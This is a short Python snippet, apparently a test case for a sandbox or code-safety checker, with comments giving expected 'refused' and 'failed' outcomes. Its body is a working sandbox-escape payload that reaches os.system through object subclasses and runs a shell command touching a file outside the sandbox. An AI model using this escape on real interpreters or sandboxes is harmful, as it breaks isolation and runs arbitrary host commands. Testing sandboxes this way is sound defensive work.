# safe: refused
# sandbox: failed: 'ESCAPED' is not defined
names = [c.__name__ for c in ().__class__.__base__.__subclasses__()]
opened = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_wrap_close"]
opened[0].__init__.__globals__["system"]("echo ESC" + "APED; touch OUTSIDE/evil")
ESCAPED
